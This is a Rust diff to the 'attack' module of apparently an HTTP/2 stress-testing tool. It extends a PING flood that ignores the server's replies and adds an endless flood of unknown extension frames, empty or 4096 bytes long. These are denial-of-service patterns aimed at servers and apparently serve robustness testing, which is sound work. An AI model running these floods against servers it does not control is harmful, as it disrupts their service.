@@ -2,24 +2,31 @@
 
 use super::Attack;
 use crate::attack::peer::{Peer, Reading};
-use crate::attack::wire::{PING, SETTINGS, WINDOW};
+use crate::attack::wire::{EXTENSION, PING, SETTINGS, WINDOW};
 
 /// PINGs before the SETTINGS that break the rule.
 const PINGS: u64 = 1000;
 
-/// Asks for round trips without reading an answer, as often as it goes; then says its SETTINGS again.
-#[derive(Default)]
+/// Asks for round trips without reading an answer, for ever; every second connection says its SETTINGS again after some.
 pub(super) struct Pings {
+    most: u64,
     sent: u64,
+}
+
+impl Pings {
+    pub(super) const fn new(n: u64) -> Self {
+        let most = if n.is_multiple_of(2) { PINGS } else { u64::MAX };
+        Self { most, sent: 0 }
+    }
 }
 
 impl Attack for Pings {
     fn step(&mut self, peer: &mut Peer) {
         peer.reading = Reading::Nothing;
-        if self.sent == PINGS {
+        if self.sent == self.most {
             peer.raw(SETTINGS, 0, 0, b"");
         }
-        if self.sent >= PINGS {
+        if self.sent >= self.most {
             // What it has to say about it is to be seen.
             peer.reading = Reading::NoCredit;
         } else {
@@ -51,5 +58,27 @@ impl Attack for Windows {
         } else if !std::mem::replace(&mut self.done, true) {
             peer.raw(WINDOW, 0, 0, &[0; 4]);
         }
+    }
+}
+
+/// Says what no server knows, for ever: every second connection as short as it can be, the others as long.
+pub(super) struct Unknown {
+    payload: &'static [u8],
+}
+
+impl Unknown {
+    pub(super) const fn new(n: u64) -> Self {
+        let payload: &[u8] = if n.is_multiple_of(2) {
+            &[]
+        } else {
+            &[b'?'; 4096]
+        };
+        Self { payload }
+    }
+}
+
+impl Attack for Unknown {
+    fn step(&mut self, peer: &mut Peer) {
+        peer.raw(EXTENSION, 0, 0, self.payload);
     }
 }
